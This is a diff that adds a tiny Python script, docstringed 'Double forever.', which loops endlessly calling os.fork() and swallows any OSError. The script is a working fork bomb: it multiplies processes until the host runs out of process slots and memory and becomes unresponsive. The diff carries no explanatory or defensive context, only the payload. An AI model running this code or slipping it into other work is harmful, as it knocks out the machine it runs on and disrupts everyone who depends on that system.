@@ -1,0 +1,9 @@
+"""Double forever."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
